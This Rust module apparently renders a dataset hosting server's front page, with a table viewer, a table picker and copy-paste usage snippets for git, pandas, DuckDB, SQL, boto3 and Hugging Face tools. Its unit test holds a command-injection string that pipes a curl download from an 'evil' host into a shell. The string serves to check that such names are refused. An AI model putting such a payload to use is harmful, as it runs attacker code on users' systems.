//! The dataset page's front, under its README (the card): the viewer of one of its tables (the
//! first, or the one picked) with a chart of each column in its heading, the other tables to
//! pick from, and "Use this dataset": how to reach it from git, pandas, Polars, DuckDB,
//! `huggingface_hub`, `datasets`, boto3 and SQL, with this server's real addresses. Only at a
//! dataset's root, never in a drive or through a share; the viewer is the file page's
//! (`table_view`), so the policies hold as there.

use strata_core::datasets::gate::Gated;
use strata_core::tables::Kind;

use super::table_view::{self, Viewer};
use crate::http::state::AppState;

/// A table to pick: its name, the page showing it, and whether it is the one shown.
pub struct Pick {
    pub name: String,
    pub link: String,
    pub current: bool,
}

/// One way to use the dataset: a tab's label and its code.
pub struct Snippet {
    pub id: &'static str,
    pub label: &'static str,
    pub code: String,
}

/// What the front shows.
pub struct Front {
    pub viewer: Option<Viewer>,
    pub picks: Vec<Pick>,
    pub snippets: Vec<Snippet>,
}

/// The keys of the dataset page's query string the viewer reads.
const VIEWER_KEYS: [&str; 10] = [
    "sort", "offset", "filter", "q", "stats", "fc", "fo", "fv", "limit", "rev",
];

/// The front of `repo`'s page at `rev`; `pairs` is the page's query string (`table=` picks).
pub async fn front(
    state: &AppState,
    repo: &Gated,
    rev: Option<&str>,
    pairs: Vec<(String, String)>,
) -> Front {
    let path = repo.path();
    let base = format!("/datasets/{path}");
    let catalog = strata_core::datasets::policies::catalog(state, repo, rev)
        .await
        .ok();
    let tables: Vec<(String, String)> = catalog
        .iter()
        .flat_map(|c| c.resources.iter())
        .filter(|t| Kind::of(t).is_some() && t.object.is_some())
        .map(|t| (t.name.clone(), t.path.clone()))
        .collect();
    let asked = pairs
        .iter()
        .find(|(k, _)| k == "table")
        .map(|(_, v)| v.clone());
    let shown = asked
        .as_ref()
        .and_then(|a| tables.iter().find(|(n, _)| n == a))
        .or(tables.first())
        .cloned();
    let keep: Vec<(String, String)> = pairs.iter().filter(|(k, _)| k == "rev").cloned().collect();
    let picks = tables
        .iter()
        .take(50)
        .map(|(name, _)| {
            let mut with = keep.clone();
            with.push(("table".to_owned(), name.clone()));
            Pick {
                link: format!("{}#table-viewer", table_view::link(&base, &with, &[])),
                current: shown.as_ref().is_some_and(|(n, _)| n == name),
                name: name.clone(),
            }
        })
        .collect();
    let viewer = match &shown {
        Some((name, file)) => {
            let mut viewed: Vec<(String, String)> = pairs
                .into_iter()
                .filter(|(k, _)| VIEWER_KEYS.contains(&k.as_str()))
                .collect();
            viewed.push(("table".to_owned(), name.clone()));
            table_view::viewer(state, repo, file, &base, viewed).await
        }
        None => None,
    };
    let snippets = snippets(state, repo, shown.as_ref());
    Front {
        viewer,
        picks,
        snippets,
    }
}

/// The ways to use `repo` (its table `shown`, if any) from the tools people have.
fn snippets(state: &AppState, repo: &Gated, shown: Option<&(String, String)>) -> Vec<Snippet> {
    let public = state.settings.public_url.trim_end_matches('/');
    let path = repo.path();
    let private = !repo.is_public();
    let token_line = if private {
        "TOKEN = \"…\"  # a token from Settings\n"
    } else {
        ""
    };
    let auth_py = if private {
        ", storage_options={\"Authorization\": \"Bearer \" + TOKEN}"
    } else {
        ""
    };
    let mut out = vec![Snippet {
        id: "use-git",
        label: "git",
        code: format!(
            "git clone {public}/{path}.git\ncd {}\ngit lfs pull",
            repo.name
        ),
    }];
    if let Some((table, file)) = shown {
        // Names are the writers': percent-encoded in addresses, quoted as each language quotes.
        let url = format!(
            "{public}/api/v1/datasets/{path}/tables/{}?format=parquet",
            strata_core::names::url_path(table)
        );
        out.push(Snippet {
            id: "use-pandas",
            label: "pandas",
            code: format!(
                "import pandas as pd\n{token_line}df = pd.read_parquet(\"{url}\"{auth_py})"
            ),
        });
        out.push(Snippet {
            id: "use-polars",
            label: "Polars",
            code: format!(
                "import pandas as pd, polars as pl\n{token_line}df = pl.from_pandas(pd.read_parquet(\"{url}\"{auth_py}))"
            ),
        });
        out.push(Snippet {
            id: "use-duckdb",
            label: "DuckDB",
            code: format!(
                "INSTALL httpfs; LOAD httpfs;\n{}SELECT * FROM read_parquet('{url}') LIMIT 10;",
                if private {
                    "CREATE SECRET strata (TYPE http, BEARER_TOKEN '…');\n"
                } else {
                    ""
                }
            ),
        });
        // In a shell, in JSON, in SQL: only a plain name goes through all three unquoted.
        if plain(table) {
            out.push(Snippet {
                id: "use-sql",
                label: "SQL",
                code: format!(
                    "curl -H \"Authorization: Bearer $TOKEN\" {public}/api/v1/sql \\\n  -d '{{\"query\": \"SELECT * FROM \\\"{path}\\\".\\\"{table}\\\" LIMIT 10\"}}'"
                ),
            });
        }
        if let Some(s3) = &state.settings.s3_public_url {
            out.push(Snippet {
                id: "use-boto3",
                label: "S3 (boto3)",
                code: format!(
                    "import boto3\nTOKEN = \"…\"  # a token from Settings\ns3 = boto3.client(\"s3\", endpoint_url=\"{}\",\n    aws_access_key_id=TOKEN[:20], aws_secret_access_key=TOKEN)\ns3.download_file(\"{}.{}\", {}, {})",
                    s3.trim_end_matches('/'),
                    repo.namespace,
                    repo.name,
                    py(&format!("main/{file}")),
                    py(file.rsplit('/').next().unwrap_or(file))
                ),
            });
        }
    }
    out.push(Snippet {
        id: "use-hf",
        label: "huggingface_hub",
        code: format!(
            "from huggingface_hub import snapshot_download\n{token_line}snapshot_download(\"{path}\", repo_type=\"dataset\", endpoint=\"{public}\"{})",
            if private { ", token=TOKEN" } else { "" }
        ),
    });
    out.push(Snippet {
        id: "use-datasets",
        label: "datasets",
        code: format!(
            "# HF_ENDPOINT={public}{}\nfrom datasets import load_dataset\nds = load_dataset(\"{path}\")",
            if private { " HF_TOKEN=…" } else { "" }
        ),
    });
    out
}

/// A Python string literal of `s` (a JSON string is one).
fn py(s: &str) -> String {
    serde_json::to_string(s).unwrap_or_default()
}

/// Whether `name` needs no quoting in a shell, JSON or SQL: letters, digits, `.`, `_`, `-`.
fn plain(name: &str) -> bool {
    !name.is_empty()
        && name
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-'))
}

#[cfg(test)]
mod tests {
    #[test]
    fn names_are_quoted_as_each_language_quotes() {
        assert_eq!(
            super::py("main/a \"b\"\\c.csv"),
            "\"main/a \\\"b\\\"\\\\c.csv\""
        );
        assert!(super::plain("orders_2026-v1.x"));
        assert!(!super::plain("x'; curl evil|sh; '") && !super::plain(""));
    }
}
